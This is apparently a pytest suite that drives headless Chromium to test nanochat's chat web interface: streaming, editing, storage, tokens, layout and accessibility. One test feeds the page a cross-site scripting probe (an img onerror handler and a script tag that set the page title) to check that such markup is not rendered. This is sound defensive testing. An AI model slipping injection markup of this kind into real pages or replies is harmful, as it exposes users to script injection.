"""The page in headless Chromium, over its DevTools pipe, with a real server whose engine the test steps by hand.

The axe test looks for axe.min.js in $AXE_JS, or in node_modules/axe-core here or in your home: npm install axe-core.
"""

import base64
import contextlib
import itertools
import json
import os
import re
import select
import shutil
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from nanochat.conversation import render_for_completion
from nanochat.record import open_record
from tasks.customjson import CustomJSON
from tests import tiny
from tests.test_server import HELLO, SECONDS, TOKENIZER, FakeEngine, Live, pairs, serving, tokens_of

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
END = "<|assistant_end|>"
FLAGS = """--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking
    --disable-component-update --disable-sync --disable-dev-shm-usage --remote-debugging-pipe""".split()


class Chromium:
    """A browser without a window, spoken to in NUL-separated JSON (the DevTools protocol)."""

    def __init__(self, profile: Path):
        reading, self.to_browser = os.pipe()
        self.from_browser, writing = os.pipe()
        # It reads commands from descriptor 3 and writes to 4.
        launch = ["bash", "-c", f'exec "$@" 3<&{reading} 4>&{writing}', "bash"]
        command = [*launch, str(CHROMIUM), *FLAGS, f"--user-data-dir={profile}"]
        log = subprocess.DEVNULL  # it complains about the missing desktop
        self.process = subprocess.Popen(
            command, pass_fds=(reading, writing), stdout=log, stderr=log, start_new_session=True
        )
        os.close(reading)
        os.close(writing)
        self.received = b""
        self.numbers = itertools.count(1)
        self.events: list[dict[str, Any]] = []

    def call(self, method: str, session: str | None = None, **params: Any) -> dict[str, Any]:
        """The result of a command; events that come before it are kept."""
        number = next(self.numbers)
        command = {"id": number, "method": method, "params": params, **({"sessionId": session} if session else {})}
        message = json.dumps(command).encode() + b"\0"
        while message:
            message = message[os.write(self.to_browser, message) :]
        while True:
            answer = self.receive()
            if answer.get("id") == number:
                assert "error" not in answer, f"{method}: {answer['error']}"
                result: dict[str, Any] = answer["result"]
                return result
            self.events.append(answer)

    def receive(self) -> dict[str, Any]:
        while b"\0" not in self.received:
            assert select.select([self.from_browser], [], [], 6 * SECONDS)[0], "Chromium doesn't answer"
            data = os.read(self.from_browser, 1 << 20)
            assert data, f"Chromium ended, exit code {self.process.wait(SECONDS)}"
            self.received += data
        line, _, self.received = self.received.partition(b"\0")
        message: dict[str, Any] = json.loads(line)
        return message

    def close(self) -> None:
        os.close(self.to_browser)  # at which it ends
        os.close(self.from_browser)
        try:
            self.process.wait(SECONDS)
        except subprocess.TimeoutExpired:
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait()


class Tab:
    """The page in a tab of its own, once it has what `ready` finds."""

    def __init__(self, browser: Chromium, url: str, ready: str = "document.getElementById('box')"):
        self.browser = browser
        self.target = browser.call("Target.createTarget", url="about:blank")["targetId"]
        self.session = browser.call("Target.attachToTarget", targetId=self.target, flatten=True)["sessionId"]
        for domain in ("Page", "Runtime", "Log", "Network"):
            self.call(f"{domain}.enable")
        self.call("Page.navigate", url=url)
        until(self, f"document.readyState === 'complete' && !!{ready}")

    def call(self, method: str, **params: Any) -> dict[str, Any]:
        return self.browser.call(method, self.session, **params)

    def evaluate(self, expression: str) -> Any:
        answer = self.call("Runtime.evaluate", expression=expression, awaitPromise=True, returnByValue=True)
        assert "exceptionDetails" not in answer, answer["exceptionDetails"]
        return answer["result"].get("value")

    def press(self, key: str, code: int, text: str = "") -> None:
        for kind in ("keyDown", "keyUp"):
            self.call("Input.dispatchKeyEvent", type=kind, key=key, code=key, windowsVirtualKeyCode=code, text=text)

    def load(self, method: str = "Page.reload", **params: Any) -> None:
        """Go to a page, or to the same once more, and wait until it is there."""
        self.evaluate("window.isOld = true; 0")
        self.call(method, **params)
        until(self, "!window.isOld && document.readyState === 'complete'")

    def resize(self, width: int, height: int, scheme: str) -> None:
        size = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": width < 500}
        self.call("Emulation.setDeviceMetricsOverride", **size)
        self.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])

    def picture(self, path: Path, whole: bool = False) -> None:
        shot = self.call("Page.captureScreenshot", format="png", captureBeyondViewport=whole)["data"]
        path.write_bytes(base64.b64decode(shot))

    def complaints(self) -> list[Any]:
        """Exceptions and console entries so far: a refused script or style is among them."""
        kinds = ("Log.entryAdded", "Runtime.exceptionThrown", "Runtime.consoleAPICalled")
        return [event for event in self.browser.events if event.get("method") in kinds]

    def close(self) -> None:
        self.browser.call("Target.closeTarget", targetId=self.target)
        self.browser.events.clear()


# -----------------------------------------------------------------------------
# Fixtures and what the tests do to the page


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    if not CHROMIUM:
        pytest.skip("no chromium on PATH")
    chromium = Chromium(tmp_path_factory.mktemp("profile"))
    yield chromium
    chromium.close()


@pytest.fixture
def engine() -> FakeEngine:
    return FakeEngine(tokens_of("abcdef", END), stepped=True)


@pytest.fixture
def base_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("NANOCHAT_BASE_DIR", str(tmp_path / "base"))
    (tmp_path / "base").mkdir()
    return tmp_path / "base"


@pytest.fixture
def live(engine: FakeEngine, base_dir: Path) -> Iterator[Live]:
    with serving(engine) as server:
        yield server


@contextlib.contextmanager
def opened(browser: Chromium, live: Live, fragment: str = "", script: str = "") -> Iterator[Tab]:
    """The page in a tab of its own; the script runs before the page's."""
    tab = Tab(browser, "about:blank", ready="true")
    if script:
        tab.call("Page.addScriptToEvaluateOnNewDocument", source=script)
    try:
        tab.load("Page.navigate", url=f"http://127.0.0.1:{live.port}/{fragment}")
        until(tab, "Boolean(health.model)")
        yield tab
    finally:
        tab.close()


@pytest.fixture
def page(browser: Chromium, live: Live) -> Iterator[Tab]:
    """Every server has another port and so a storage of its own."""
    with opened(browser, live) as tab:
        yield tab


def until(page: Tab, expression: str) -> None:
    """Wait until it is true."""
    tiny.wait_until(lambda: page.evaluate(f"(async () => Boolean({expression}))()"))


IDLE = "!running.size && [...log.querySelectorAll('.turn:not(.unheard) .said:not(.user) .text')]"
IDLE += ".every(text => text.matches('.rich, :empty'))"


def idle(page: Tab, engine: FakeEngine | None = None) -> None:
    """Until no reply comes any more and what is shown is rendered; the engine takes as many steps as that needs."""

    def is_idle() -> bool:
        if engine and not page.evaluate("!running.size"):
            engine.allow()
        return bool(page.evaluate(IDLE))

    if engine:
        engine.allow(len(engine.tokens))
    tiny.wait_until(is_idle)
    while engine and engine.gate and engine.gate.acquire(blocking=False):
        pass


def type_text(page: Tab, text: str) -> None:
    page.evaluate(f"box.value = {json.dumps(text)}; box.dispatchEvent(new Event('input')); 0")


def press(page: Tab, target: str = "box", **event: Any) -> None:
    options = json.dumps({"bubbles": True, "cancelable": True, **event})
    page.evaluate(f"{target}.dispatchEvent(new KeyboardEvent('keydown', {options}))")


def say(page: Tab, text: str) -> None:
    type_text(page, text)
    press(page, key="Enter", ctrlKey=True)  # on a phone too


def click(page: Tab, name: str, place: int = -1) -> None:
    """Press the newest button that says so or has that label, or another one of them."""
    named = f"b.textContent === {json.dumps(name)} || b.ariaLabel === {json.dumps(name)}"
    page.evaluate(f"[...document.querySelectorAll('button')].filter(b => {named}).at({place}).click()")


def texts(page: Tab, selector: str) -> list[str]:
    found: list[str] = page.evaluate(f"[...document.querySelectorAll({json.dumps(selector)})].map(e => e.textContent)")
    return found


def said(page: Tab) -> list[str]:
    """What user and model said, as it is shown."""
    return [text.strip() for text in texts(page, "#log .text")]


def last_request(engine: FakeEngine) -> list[int]:
    tokens: list[int] = engine.calls[-1]["tokens"]
    return tokens


def prompt_of(*contents: Any) -> list[int]:
    return render_for_completion(pairs(*contents), TOKENIZER)


def answer(page: Tab, engine: FakeEngine, text: str, reply: str = "") -> None:
    """Say something and let the whole reply come."""
    if reply:
        engine.tokens = tokens_of(reply, END)
    say(page, text)
    idle(page, engine)


def wheel(page: Tab, pixels: int) -> None:
    page.call("Input.dispatchMouseEvent", type="mouseWheel", x=500, y=300, deltaX=0, deltaY=pixels)


# -----------------------------------------------------------------------------
# A conversation


def test_the_reply_grows_and_stop_keeps_it_and_ends_the_engine(page: Tab, engine: FakeEngine) -> None:
    say(page, "Hello")
    for shown in ("a", "ab"):
        engine.allow()
        until(page, f"log.textContent.endsWith('nanochat said{shown}')")
    assert page.evaluate("at('send').hidden && !at('stop').hidden")
    page.evaluate("at('stop').click()")
    idle(page)
    assert page.evaluate("at('stop').hidden && !at('send').hidden && document.activeElement === box")
    leave(engine)
    assert engine.taken[0] <= 3
    assert said(page) == ["Hello", "ab"] and texts(page, "#log .note") == ["Stopped"]
    answer(page, engine, "And then?")
    assert last_request(engine) == prompt_of("Hello", "ab", "And then?")


def leave(engine: FakeEngine) -> None:
    """Let the engine step until the request whose page has gone is taken out."""
    for _ in range(10 * SECONDS):
        if engine.closed.acquire(timeout=0.1):
            return
        engine.allow()
    raise AssertionError("the engine still runs")


def test_stop_before_anything_was_said_gives_the_text_back(page: Tab) -> None:
    say(page, "Hello")
    assert page.evaluate("box.value") == ""
    press(page, "document", key="Escape")
    idle(page)
    assert page.evaluate("box.value") == "Hello" and said(page) == []
    assert page.evaluate("main.classList.contains('empty') && !at('welcome').hidden && chats.size") == 0


def test_tool_calls_are_folded_and_return_to_the_server_as_tool_calls(page: Tab, engine: FakeEngine) -> None:
    call = ("<|python_start|>", "12*3", "<|python_end|>", "<|output_start|>", "36", "<|output_end|>")
    engine.tokens = tokens_of("It *is* ", *call, *call, ".", END)
    answer(page, engine, "12*3?")
    assert texts(page, ".tool summary") == ["12*3 = 36"] * 2
    assert page.evaluate("[...log.querySelectorAll('.rich p > em ~ details.tool')].every(tool => !tool.open)")
    page.evaluate("log.querySelector('summary').click(); 0")
    assert texts(page, ".tool[open] pre") == ["12*3", "36"]
    parts = [{"type": "python", "text": "12*3"}, {"type": "python_output", "text": "36"}] * 2
    reply = [{"type": "text", "text": "It *is* "}, *parts, {"type": "text", "text": "."}]
    answer(page, engine, "Sure?")
    assert last_request(engine) == prompt_of("12*3?", reply, "Sure?")
    assert page.evaluate("log.querySelector('.tool').open")  # what was opened is not shut by the next reply


def test_markdown_is_rendered_when_the_reply_is_done(page: Tab, engine: FakeEngine) -> None:
    code = "def f(x):\n    return 'x' * 3\n"
    table = "| a | b |\n| --- | ---: |\n| 1 | 2 |\n"
    answer(page, engine, "Code?", f"# Title\n\n**bold** <b>no</b>\n\n```python\n{code}```\n\n{table}")
    assert texts(page, ".rich h1") == ["Title"] and texts(page, ".rich strong") == ["bold"]
    assert "<b>no</b>" in said(page)[1] and texts(page, ".bar span") == ["python"]
    assert texts(page, "pre") == [code] and "def" in texts(page, "pre .k")
    assert page.evaluate("getComputedStyle(log.querySelector('td:nth-child(2)')).textAlign") == "right"
    page.call("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"])
    page.evaluate("window.copied = []; navigator.clipboard.writeText = async text => { copied.push(text); }; 0")
    click(page, "Copy")
    click(page, "Copy this reply")
    click(page, "Copy this message")
    assert page.evaluate("copied")[0] == code and page.evaluate("copied[1].startsWith('# Title')")
    assert page.evaluate("copied[2]") == "Code?" and page.complaints() == []


def test_lines_of_a_reply_stay_lines(page: Tab, engine: FakeEngine) -> None:
    """A small model writes `s t r a w` and `r 1` in two lines, and Markdown would make one line of it."""
    answer(page, engine, "Hello", "one\ntwo\n\n- a\n- b")
    assert page.evaluate(
        "log.querySelector('.rich p').offsetHeight > 1.5 * parseFloat(getComputedStyle(log).lineHeight)"
    )
    assert page.evaluate(
        "log.querySelector('.rich ul').offsetHeight < 3 * parseFloat(getComputedStyle(log).lineHeight)"
    )


def test_asking_again_and_editing_lose_nothing(page: Tab, engine: FakeEngine) -> None:
    answer(page, engine, "One", "first")
    answer(page, engine, "Two", "second")
    engine.tokens = tokens_of("another", END)
    click(page, "Ask again")
    idle(page, engine)
    assert last_request(engine) == prompt_of("One", "first", "Two")
    assert said(page) == ["One", "first", "Two", "another"]
    assert "2 of 2" in texts(page, ".tools .muted")
    click(page, "Earlier version")
    idle(page)
    assert said(page)[3] == "second"
    type_text(page, "half a thought")
    click(page, "Edit and send again", 0)
    assert page.evaluate("box.value") == "One" and not page.evaluate("at('editing').hidden")
    answer(page, engine, "Uno", "primo")
    assert last_request(engine) == prompt_of("Uno") and said(page) == ["Uno", "primo"]
    assert page.evaluate("box.value") == "half a thought"
    click(page, "Earlier version", 0)
    idle(page)
    assert said(page) == ["One", "first", "Two", "another"]
    click(page, "Edit and send again")
    assert page.evaluate("box.value") == "Two"
    press(page, "document", key="Escape")
    assert page.evaluate("box.value") == "half a thought" and page.evaluate("at('editing').hidden")


def test_an_error_offers_retry_and_leaves_no_half_turn(page: Tab, engine: FakeEngine) -> None:
    """nanochat kept the question of a failed request, so the next one had two user messages in a row."""
    answer(page, engine, "First")
    engine.error, engine.tokens = ValueError("told by a test"), tokens_of("ab")
    say(page, "Second")
    idle(page, engine)
    assert "ValueError" in texts(page, ".error")[0] and texts(page, ".error button") == ["Retry", "Edit"]
    assert said(page)[3] == "ab"
    click(page, "Retry")
    idle(page, engine)
    assert last_request(engine) == prompt_of("First", "abcdef", "Second")
    assert said(page)[2:] == ["Second", "ab"] and len(texts(page, ".error")) == 1
    engine.error = None
    answer(page, engine, "Third", "ok")
    assert last_request(engine) == prompt_of("First", "abcdef", "Third")
    assert texts(page, ".unheard .note")[-1] == "Not part of the conversation"


def test_a_refused_message_can_be_edited(page: Tab, engine: FakeEngine) -> None:
    say(page, "x" * 8_001)
    until(page, "!running.size")
    assert "8,001 characters; at most 8,000" in texts(page, ".error")[0] and not engine.calls
    click(page, "Edit")
    assert page.evaluate("box.value.length") == 8_001
    answer(page, engine, "shorter")
    assert last_request(engine) == prompt_of("shorter")


def test_a_server_that_is_gone_is_said(page: Tab, live: Live) -> None:
    page.evaluate("post('render', { text: 'x' }).then(() => 0)")  # its process is there by now
    live.server.handle_exit(15, None)
    tiny.wait_until(lambda: not any(worker.thread.is_alive() for worker in live.serving.workers))
    until(page, "await fetch('health').then(() => false, () => true)")
    say(page, "Hello")
    until(page, "!running.size")
    assert texts(page, ".error span") == ["The server can’t be reached."]


def test_a_reply_that_says_nothing_is_said(page: Tab, engine: FakeEngine) -> None:
    engine.tokens = tokens_of(END)
    say(page, "Hello")
    engine.allow()
    until(page, "!running.size")
    assert texts(page, ".error span") == ["The model ended its reply before it said anything."]


def test_a_reply_goes_on_while_another_chat_is_read(page: Tab, engine: FakeEngine) -> None:
    say(page, "Hello")
    engine.allow()
    until(page, "log.textContent.includes('saida')")
    press(page, "document", key="O", ctrlKey=True, shiftKey=True)
    until(page, "!chat.turns.length")
    assert said(page) == [] and texts(page, "#list a") == ["Hello, a reply is coming"]
    idle(page, engine)
    page.evaluate("document.querySelector('#list a').click()")
    until(page, "log.textContent.includes('abcdef')")


def test_enter_sends_but_not_while_a_word_is_composed_nor_on_a_phone(page: Tab, engine: FakeEngine) -> None:
    type_text(page, "にほん")
    press(page, key="Enter", isComposing=True)
    press(page, key="Enter", keyCode=229)  # as Safari says it
    press(page, key="Enter", shiftKey=True)
    page.resize(360, 740, "light")
    press(page, key="Enter")
    assert said(page) == [] and page.evaluate("box.enterKeyHint") == "enter"
    press(page, key="Enter", ctrlKey=True)
    assert said(page)[0] == "にほん"
    page.resize(1200, 740, "light")
    say(page, "too early")
    assert said(page)[0] == "にほん" and page.evaluate("box.value") == "too early"


def test_who_waits_and_what_is_left_out_is_said(browser: Chromium, engine: FakeEngine, base_dir: Path) -> None:
    with serving(engine, slots=1) as live, opened(browser, live) as page:
        live.chat()
        live.wait("active", 1)
        say(page, "Hello")
        until(page, "log.textContent.includes('1 before you')")
        idle(page, engine)
        turn = "{parent: i - 1, user: 'xx', parts: [{type: 'text', text: 'xx'}], end: 'stop'}"
        many = f"Array.from({{length: 250}}, (_, i) => ({turn}))"
        page.evaluate(f"chat.turns = {many}; chat.leaf = 249; 0")
        say(page, "Hello")
        idle(page, engine)
        (note,) = texts(page, "#log article:last-child .note")
        assert note.startswith("The model no longer sees the first ") and int("".join(filter(str.isdigit, note))) > 2


def test_only_what_the_server_takes_is_sent(page: Tab) -> None:
    """A long chat must go on, and not end in `at most 32,000 characters`."""

    def sent(*sizes: int, system: bool = False) -> int:
        messages = pairs(*("x" * size for size in sizes))
        messages = [{"role": "system", "content": "x"}, *messages] if system else messages
        return int(page.evaluate(f"recent({json.dumps(messages)}, health.limits).length"))

    assert sent(*[1] * 501) == 499 and sent(*[1] * 499) == 499
    assert sent(*[1] * 501, system=True) == 500 and sent(*[8_000] * 5, system=True) == 4
    assert sent(*[8_000] * 3) == 3 and sent(*[8_000] * 5) == 3
    assert sent(5, 5, 5, 9_000, 5, 5, 5) == 3  # a reply too long to be sent back
    assert sent(9_000) == 1  # the server says what is wrong with it


def test_events_split_anywhere_are_whole(page: Tab) -> None:
    """nanochat's page dropped an event that two reads shared, and broke characters that two reads shared."""
    bodies = page.evaluate("""(async () => {
      const events = [{ token: "Gr\\u00f6\\u00dfe" }, { token: "\\u{1f388}\\n\\n" }, { done: true }];
      const bytes = new TextEncoder().encode(events.map(event => `data: ${JSON.stringify(event)}\\n\\n`).join(""));
      const results = [];
      for (let size = 1; size <= bytes.length; size++) {
        let at = 0;
        const read = async () => {
          if (at >= bytes.length) return { done: true };
          return { done: false, value: bytes.slice(at, at += size) };
        };
        const got = [];
        for await (const event of readEvents({ getReader: () => ({ read }) })) got.push(event);
        results.push(JSON.stringify(got) === JSON.stringify(events));
      }
      return results;
    })()""")
    assert len(bodies) > 60 and all(bodies)


def test_system_message_and_sampling_reach_the_engine(page: Tab, engine: FakeEngine) -> None:
    def fill(selector: str, value: str) -> None:
        change = f"e.value = {json.dumps(value)}; e.dispatchEvent(new Event('input'))"
        page.evaluate(f"(e => {{ {change} }})(document.querySelector({json.dumps(selector)}))")

    chosen = {"temperature": 0.25, "top_k": 7, "top_p": 0.5, "seed": 3}
    click(page, "Settings")
    fill("#system", "Be kind.")
    for name, value in [*chosen.items(), ("max_tokens", 99_999)]:
        fill(f"[name={name}]", str(value))
    assert page.evaluate("document.querySelector('[name=max_tokens]').matches(':invalid')")  # it is not taken
    page.evaluate("at('settings').close(); 0")
    answer(page, engine, "Hello")
    assert last_request(engine) == render_for_completion([{"role": "system", "content": "Be kind."}, *HELLO], TOKENIZER)
    assert {name: engine.calls[-1][name] for name in chosen} == chosen and engine.calls[-1]["max_tokens"] < 99_999
    page.load()
    assert page.evaluate("chat.system") == "Be kind." and page.evaluate("sampling().seed") == 3


# -----------------------------------------------------------------------------
# Keeping


def test_a_reload_or_back_loses_neither_what_came_nor_what_was_typed(page: Tab, engine: FakeEngine) -> None:
    type_text(page, "not sent yet")
    page.load()
    assert page.evaluate("box.value") == "not sent yet"
    say(page, "Hello")
    engine.allow(3)
    until(page, "log.textContent.endsWith('abc')")
    type_text(page, "the next one")
    page.load()
    idle(page)
    assert said(page) == ["Hello", "abc"] and page.evaluate("box.value") == "the next one"
    assert texts(page, "#log .note") == ["Cut off: the page was left while this came."]
    leave(engine)
    press(page, key="Enter")
    engine.allow(2)  # one may go to a batch that is empty
    until(page, "log.textContent.includes('saida')")
    page.load("Page.navigate", url="about:blank")
    page.evaluate("history.back(); 0")
    until(page, "location.protocol === 'http:' && document.readyState === 'complete'")
    until(page, "document.querySelectorAll('#log .rich').length === 2")
    assert said(page)[:3] == ["Hello", "abc", "the next one"] and said(page)[3].startswith("a")
    page.evaluate("location.hash = ''; 0")
    until(page, "!chat.turns.length")
    page.evaluate("history.back(); 0")
    until(page, "chat.turns.length === 2")


def test_chats_are_renamed_searched_exported_deleted_and_brought_back(
    page: Tab, engine: FakeEngine, tmp_path: Path
) -> None:
    answer(page, engine, "Talk of cats", "meow")
    page.evaluate("startNew()")
    until(page, "!chat.turns.length")
    call = ("<|python_start|>", "1+1", "<|python_end|>", "<|output_start|>", "2", "<|output_end|>")
    engine.tokens = tokens_of("so ", *call, END)
    answer(page, engine, "Talk of sums")
    assert texts(page, "#list a") == ["Talk of sums", "Talk of cats"]
    page.evaluate("at('search').value = 'MEOW'; at('search').dispatchEvent(new Event('input')); 0")
    assert texts(page, "#list a") == ["Talk of cats"]
    page.evaluate("at('search').value = ''; at('search').dispatchEvent(new Event('input')); 0")
    click(page, "Rename", 0)
    page.evaluate("const name = at('list').querySelector('input'); name.value = 'Sums'; name.blur(); 0")
    assert texts(page, "#list a") == ["Sums", "Talk of cats"]
    file = tmp_path / "chats.jsonl"
    file.write_text(page.evaluate("[...chats.values()].map(asJson).join('\\n')"), encoding="utf-8")
    messages = [row["messages"] for row in CustomJSON(file)]
    parts = [{"type": "text", "text": "so "}, {"type": "python", "text": "1+1"}, {"type": "python_output", "text": "2"}]
    assert messages == [pairs("Talk of cats", "meow"), pairs("Talk of sums", parts)]
    assert "**You**\n\nTalk of sums" in page.evaluate("asMarkdown(chat)")
    click(page, "Delete", 0)
    assert texts(page, "#list a") == ["Talk of cats"] and said(page) == []
    click(page, "Undo")
    assert texts(page, "#list a") == ["Sums", "Talk of cats"]
    page.load()
    assert texts(page, "#list a") == ["Sums", "Talk of cats"]


@pytest.mark.parametrize("refusal", ["full", "off"])
def test_a_storage_that_refuses_is_said_and_the_chat_goes_on(
    browser: Chromium, live: Live, engine: FakeEngine, refusal: str
) -> None:
    full = "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); };"
    off = "for (const name of ['localStorage', 'sessionStorage'])"
    off += "Object.defineProperty(window, name, { get() { throw new DOMException('off', 'SecurityError'); } });"
    with opened(browser, live, script=full if refusal == "full" else off) as page:
        answer(page, engine, "Hello")
        assert "full or switched off" in texts(page, "#note")[0] and not page.evaluate("at('note').hidden")
        answer(page, engine, "More")
        assert last_request(engine) == prompt_of("Hello", "abcdef", "More") and texts(page, "#list a") == ["Hello"]


def test_tabs_do_not_overwrite_each_others_chats(browser: Chromium, live: Live, page: Tab, engine: FakeEngine) -> None:
    answer(page, engine, "Hello")
    with opened(browser, live, page.evaluate("location.hash")) as other:
        assert other.evaluate("chat.turns.length") == 1
        answer(page, engine, "from the first")
        until(other, "chat.turns.length === 2")  # it is told
        other.evaluate("removeEventListener('storage', onStorage); 0")  # as if it came too late
        say(page, "first again")
        idle(page, engine)
        answer(other, engine, "from the second")
        assert "here it goes on as a copy" in texts(other, "#note")[0]
    page.load()
    chats = page.evaluate("[...chats.values()].map(chat => chat.turns.map(turn => turn.user))")
    assert ["Hello", "from the first", "first again"] in chats and [
        "Hello",
        "from the first",
        "from the second",
    ] in chats


def test_what_is_kept_but_not_a_chat_is_left_alone(browser: Chromium, live: Live) -> None:
    kept = {"a": "{", "b": json.dumps({"id": "b", "turns": [{"user": 3}], "leaf": 0})}
    script = "".join(f"localStorage.setItem('nanochat:chat:{key}', {json.dumps(text)});" for key, text in kept.items())
    with opened(browser, live, script=f"if (location.protocol === 'http:') {{ {script} }}") as page:
        assert texts(page, "#note span")[0].startswith("2 of the chats") and texts(page, "#list a") == []
        assert page.evaluate("localStorage.length") == 2


def test_the_token_of_the_address_is_sent_and_leaves_the_address(
    browser: Chromium, engine: FakeEngine, base_dir: Path
) -> None:
    with serving(engine, token="secret") as live:
        with opened(browser, live, "#token=secret") as page:
            assert page.evaluate("location.hash") == "" and "secret" not in page.evaluate("location.href")
            answer(page, engine, "Hello")
            page.load()
            assert page.evaluate("session.get(TOKEN)") == "secret" and not page.evaluate(
                "Object.keys(localStorage).includes(TOKEN)"
            )
        with opened(browser, live, "#token=wrong") as page:
            say(page, "Hello")
            until(page, "at('locked').open")
            page.evaluate("at('token').value = 'secret'; at('locked').close(); 0")
            until(page, "!running.size && session.get(TOKEN) === 'secret'")  # a dialog tells later that it is closed
            click(page, "Retry")
            idle(page, engine)
            assert said(page)[1] == "abcdef"


def test_the_page_works_under_a_prefix(browser: Chromium, engine: FakeEngine, base_dir: Path) -> None:
    with serving(engine, root_path="/some/prefix") as live, opened(browser, live, "some/prefix/") as page:
        answer(page, engine, "Hello")
        assert said(page) == ["Hello", "abcdef"] and page.complaints() == []


# -----------------------------------------------------------------------------
# What is seen and heard


def test_real_keys_type_and_send_and_the_policy_holds(page: Tab, engine: FakeEngine) -> None:
    markup = "<img src=x onerror='document.title=1'><script>document.title=2</script>"
    engine.tokens = tokens_of(markup, END)
    assert page.evaluate("document.activeElement === box")
    page.call("Input.insertText", text="Hello")
    page.press("Enter", 13, "\r")
    idle(page, engine)
    assert said(page)[1] == markup and page.evaluate("log.querySelectorAll('img, script').length") == 0
    assert page.evaluate("document.title") == "Hello · nanochat" and page.evaluate("document.activeElement === box")
    assert page.evaluate("getComputedStyle(document.body).display") == "grid"  # the style sheet was let in
    assert page.complaints() == []
    assert page.evaluate("try { document.body.innerHTML = '<b>x</b>'; false } catch { true }")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1200])
def test_nothing_is_wider_than_the_window(
    page: Tab, engine: FakeEngine, tmp_path: Path, width: int, scheme: str
) -> None:
    """Leaves a screenshot in tmp_path."""
    call = ("<|python_start|>", "'strawberry'.count('r')", "<|python_end|>", "<|output_start|>", "3", "<|output_end|>")
    wide = f"So three. {'x' * 200}\n\n```\n{'y' * 200}\n```\n\n|{' a |' * 40}\n|{' - |' * 40}\n\n- مرحبا\n\n"
    engine.tokens = tokens_of("Let me count: ", *call, wide, "Words. " * 60, END)
    page.resize(width, 760, scheme)
    answer(page, engine, "How many r are in strawberry? " + "y" * 120)
    engine.error, engine.tokens = ValueError("told by a test"), tokens_of("And then")
    say(page, "And in raspberry?")
    idle(page, engine)
    assert page.evaluate("document.documentElement.scrollWidth") <= width and page.evaluate("main.scrollWidth") <= width
    until(page, "main.scrollHeight - main.scrollTop - main.clientHeight < 2")  # it followed the text
    assert page.evaluate("log.getBoundingClientRect().width") <= 48 * 16
    assert page.evaluate("document.getElementById('composer').getBoundingClientRect().bottom") <= 760
    assert page.evaluate("getComputedStyle(document.body).colorScheme") == "light dark"
    light = page.evaluate("Number(/\\d+/.exec(getComputedStyle(document.body).backgroundColor)[0]) > 127")
    assert light == (scheme == "light")
    page.picture(tmp_path / f"chat-{width}-{scheme}.png")
    assert (tmp_path / f"chat-{width}-{scheme}.png").read_bytes().startswith(b"\x89PNG")


def test_text_runs_in_its_own_direction(page: Tab, engine: FakeEngine) -> None:
    answer(page, engine, "كم؟", "مرحبا\n\n- واحد\n\nHello\n\n```\ncode\n```")
    direction = "[...document.querySelectorAll('{}')].map(e => getComputedStyle(e).direction)"
    assert page.evaluate(direction.format("#log .user .text")) == ["rtl"]
    assert page.evaluate(direction.format("#log .rich > p")) == ["rtl", "ltr"]
    assert page.evaluate(direction.format("#log .rich ul, #log .rich li")) == ["rtl", "rtl"]
    assert page.evaluate(direction.format("#log pre")) == ["ltr"]


def test_the_log_follows_only_a_reader_who_is_at_its_end(page: Tab, engine: FakeEngine) -> None:
    answer(page, engine, "Hello", "line\n\n" * 100)
    until(page, "main.scrollTop > 500")
    say(page, "More")
    until(page, "running.size && isAtEnd()")
    page.evaluate("main.scrollTop = 100; 0")
    idle(page, engine)
    assert page.evaluate("main.scrollTop") == 100 and not page.evaluate("at('end').hidden")
    click(page, "To the newest")
    until(page, "isAtEnd() && at('end').hidden")


def test_small_wheel_steps_scroll_up_while_a_reply_streams(page: Tab, engine: FakeEngine) -> None:
    """A reader within 48 pixels of the end used to be pulled back by every token: 6 pixels at a time got nowhere."""
    answer(page, engine, "Hello", "line\n\n" * 100)
    engine.tokens = tokens_of("word " * 400, END)
    say(page, "More")
    engine.allow(100)
    until(page, "log.textContent.includes('word') && isAtEnd()")
    start = page.evaluate("main.scrollTop")
    for _ in range(60):
        wheel(page, -6)
        engine.allow(5)
    until(page, f"main.scrollTop <= {start} - 300")
    idle(page, engine)
    assert page.evaluate("main.scrollTop") <= start - 300 and not page.evaluate("follow")
    for _ in range(20):
        wheel(page, 600)
    until(page, "follow")
    answer(page, engine, "Again", "short")
    until(page, "isAtEnd()")


def test_the_box_grows_with_its_text(page: Tab) -> None:
    heights = []
    for lines in (1, 3, 100):
        type_text(page, "\n".join(["line"] * lines))
        heights.append(page.evaluate("box.getBoundingClientRect().height"))
    assert heights[0] < heights[1] < heights[2] <= 12 * 16


def test_a_screen_reader_hears_who_speaks_and_each_reply_once(page: Tab, engine: FakeEngine) -> None:
    page.evaluate("""window.heard = [];
      new MutationObserver(() => heard.push(spoken.textContent)).observe(spoken, { childList: true }); 0""")
    answer(page, engine, "Hello", "Hi *there*")
    assert page.evaluate("heard") == ["The reply is coming.", "nanochat said: Hi *there*"]
    tree = page.call("Accessibility.getFullAXTree")["nodes"]
    names = [(node["role"]["value"], node["name"]["value"]) for node in tree if node.get("name", {}).get("value")]
    assert ("heading", "You said") in names and ("heading", "nanochat said") in names
    assert ("log", "Conversation") in names and ("textbox", "Message") in names
    buttons = [node for node in tree if node.get("role", {}).get("value") == "button" and not node["ignored"]]
    assert buttons and all(node["name"]["value"] for node in buttons)


def test_everything_is_reached_by_keyboard_and_the_drawer_takes_the_focus(page: Tab, engine: FakeEngine) -> None:
    answer(page, engine, "Hello", "```\ncode\n```")
    reached = set()
    for _ in range(30):
        page.press("Tab", 9)
        reached.add(page.evaluate("document.activeElement.ariaLabel || document.activeElement.textContent.trim()"))
    wanted = {
        "Chat",
        "Runs",
        "New chat",
        "Search chats",
        "Settings",
        "Copy this reply",
        "Ask again",
        "Copy",
        "code",
        "Message",
    }
    assert wanted <= reached, wanted - reached
    page.resize(360, 740, "light")
    click(page, "Chats and runs")
    assert page.evaluate("document.activeElement.id") == "shut" and page.evaluate("at('body').inert")
